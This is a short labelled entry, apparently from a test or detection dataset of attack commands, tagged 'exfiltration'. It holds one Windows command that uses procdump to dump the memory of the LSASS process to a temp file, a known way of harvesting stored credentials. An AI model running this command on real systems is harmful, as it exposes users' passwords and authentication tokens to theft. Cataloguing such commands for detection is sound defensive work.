# description: Dumps LSASS memory with procdump -ma.
# family: exfiltration
C:\Tools\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp
